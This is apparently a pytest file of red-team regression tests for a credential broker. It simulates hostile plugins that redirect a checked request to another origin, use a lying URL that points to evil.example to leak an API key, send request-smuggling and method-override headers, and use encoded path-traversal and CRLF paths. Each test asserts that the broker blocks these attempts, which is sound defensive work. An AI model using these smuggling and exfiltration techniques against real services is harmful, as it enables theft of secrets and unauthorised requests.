"""What a red team found in the transports, each as a test that stays."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator

import anyio
import httpx
import pytest

from apex_creds.errors import RequestNotAllowedError
from apex_creds.leases.pools import _AT_ONCE
from apex_creds.model import ApiKey
from tests.leases.loopback import Server, ok, server
from tests.leases.world import World

pytestmark = pytest.mark.anyio

SECRET = "s3cr3t-canary-0123456789"


@pytest.fixture
async def here(world: World) -> AsyncIterator[Server]:
    """The origin that ``web`` may be sent to."""
    async with server() as made:
        await world.vault.put("web", ApiKey(SECRET), origins=[made.origin])
        await world.vault.grant("demo", "web")
        yield made


@pytest.fixture
async def there() -> AsyncIterator[Server]:
    """An origin that it may not be sent to."""
    async with server() as made:
        yield made


NEED = {"name": "web", "methods": ["GET"], "paths": ["/v1/*"]}


async def test_what_was_checked_is_what_is_sent(
    world: World, here: Server, there: Server, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A request that is changed while it waits for its turn goes where it was checked."""
    broker = world.middleware.broker
    original, changed = broker.redeem, []

    async def plugin(credentials):
        async with credentials["web"].client() as http:
            request = http.build_request("GET", f"{here.origin}/v1/a")

            async def slow(*args):
                request.url = httpx.URL(f"{there.origin}/collect")
                request.method = "DELETE"
                request.headers["host"] = there.origin.removeprefix("http://")
                changed.append(1)
                return await original(*args)

            monkeypatch.setattr(broker, "redeem", slow)
            return (await http.send(request)).status_code

    assert await world.call(plugin, needs=(NEED,)) == 200
    assert changed
    assert here.target == "/v1/a"
    assert there.requests == []


async def test_code_of_the_plugin_never_sees_the_secret(world: World, here: Server) -> None:
    stolen: list[object] = []

    class Headers(httpx.Headers):
        def copy(self):
            return Headers(self)

        def __setitem__(self, key, value):
            stolen.append(value)
            super().__setitem__(key, value)

    class Lying(httpx.Request):
        looks = 0

        @property
        def url(self):
            Lying.looks += 1
            return self._first if Lying.looks == 1 else httpx.URL("https://evil.example/x")

        @url.setter
        def url(self, value):
            self._first = value

    async def plugin(credentials):
        async with credentials["web"].client() as http:
            request = http.build_request("GET", f"{here.origin}/v1/a")
            request.headers = Headers(request.headers)
            await http.send(request)
            transport = http._transport
            lying = Lying("GET", f"{here.origin}/v1/b")
            lying.headers = httpx.Headers({"host": here.origin.removeprefix("http://")})
            Lying.looks = 0
            await transport.handle_async_request(lying)

    await world.call(plugin, needs=(NEED,))
    assert not [value for value in stolen if SECRET in str(value)]
    assert here.target == "/v1/b"


async def test_responses_left_open_are_closed_with_the_lease(
    world: World, here: Server
) -> None:
    """However many plugins forget theirs, the next one gets its turn."""
    here.answer = lambda head: ok(b"x" * 10)

    async def forgetful(credentials):
        http = credentials["web"].client()
        await http.send(http.build_request("GET", f"{here.origin}/v1/a"), stream=True)

    async def plugin(credentials):
        async with credentials["web"].client() as http:
            return (await http.get(f"{here.origin}/v1/a")).status_code

    with anyio.fail_after(30):
        for _ in range(_AT_ONCE + 3):
            await world.call(forgetful, needs=(NEED,))
        assert await world.call(plugin, needs=(NEED,)) == 200


async def test_threads_give_their_turns_back_too(world: World, here: Server) -> None:
    def forgetful(credentials):
        http = credentials["web"].sync_client()
        http.send(http.build_request("GET", f"{here.origin}/v1/a"), stream=True)

    with anyio.fail_after(60):
        for _ in range(_AT_ONCE + 3):
            await world.call(forgetful, needs=(NEED,))


@pytest.mark.parametrize(
    "headers",
    [
        {"Content-Length": "4", "Transfer-Encoding": "chunked"},
        {"Transfer-Encoding": "gzip, chunked"},
        {"X-HTTP-Method-Override": "DELETE"},
        {"X-Method-Override": "DELETE"},
        {"X-HTTP-Method": "DELETE"},
        {"X-Original-URL": "/admin"},
        {"X-Rewrite-URL": "/admin"},
        {"X-Forwarded-Host": "evil.example"},
        {"Forwarded": "host=evil.example"},
    ],
)
async def test_headers_that_mean_another_request_are_refused(
    world: World, here: Server, headers: dict[str, str]
) -> None:
    async def plugin(credentials):
        async with credentials["web"].client() as http:
            await http.get(f"{here.origin}/v1/a", headers=headers)

    with pytest.raises(RequestNotAllowedError):
        await world.call(plugin, needs=(NEED,))
    assert here.requests == []


async def test_headers_of_a_hop_are_not_passed_on(world: World, here: Server) -> None:
    async def plugin(credentials):
        async with credentials["web"].client() as http:
            headers = {"Connection": "Upgrade, Authorization", "Upgrade": "websocket"}
            await http.get(f"{here.origin}/v1/a", headers=headers)

    await world.call(plugin, needs=(NEED,))
    assert here.header("upgrade") == []
    assert not any("pgrade" in value for value in here.header("connection"))


@pytest.mark.parametrize(
    "path",
    [
        "/v1/%c0%ae%c0%ae/admin",
        "/v1/%u002e%u002e/x",
        "/v1/%20../x",
        "/v1/%09/x",
        "/v1/%0d%0aX:1",
        "/v1/%252e%252e/x",
    ],
)
async def test_spellings_of_another_path_are_refused(
    world: World, here: Server, path: str
) -> None:
    async def plugin(credentials):
        async with credentials["web"].client() as http:
            await http.get(f"{here.origin}{path}")

    with pytest.raises(RequestNotAllowedError):
        await world.call(plugin, needs=(NEED,))
    assert here.requests == []


async def test_a_slow_origin_keeps_no_other_waiting(
    world: World, here: Server, there: Server
) -> None:
    await world.vault.put("other", ApiKey("another-s3cr3t"), origins=[there.origin])
    await world.vault.grant("demo", "other")

    async def stuck(credentials):
        async with (
            credentials["web"].client(timeout=None) as http,
            asyncio.TaskGroup() as tasks,
        ):
            for _ in range(_AT_ONCE):
                tasks.create_task(http.get(f"{here.origin}/v1/a"))

    async def quick(credentials):
        async with credentials["other"].client() as http:
            return (await http.get(f"{there.origin}/v1/a")).status_code

    here.hang = asyncio.Event()
    async with anyio.create_task_group() as tasks:
        tasks.start_soon(lambda: world.call(stuck, needs=(NEED,)))
        await here.hang.wait()
        with anyio.fail_after(20):
            assert await world.call(quick, needs=({"name": "other"},)) == 200
        tasks.cancel_scope.cancel()


async def test_origins_that_are_refused_are_not_remembered(world: World, here: Server) -> None:
    """A plugin can't fill memory by asking for ever new ones."""

    async def plugin(credentials):
        async with credentials["web"].client() as http:
            await http.get(f"{here.origin}/v1/a")
            for number in range(20):
                with pytest.raises(RequestNotAllowedError):
                    await http.get(f"http://host{number}.example/v1/a")

    await world.call(plugin, needs=(NEED,))
    assert len(world.middleware.broker.pools._turns) == 1
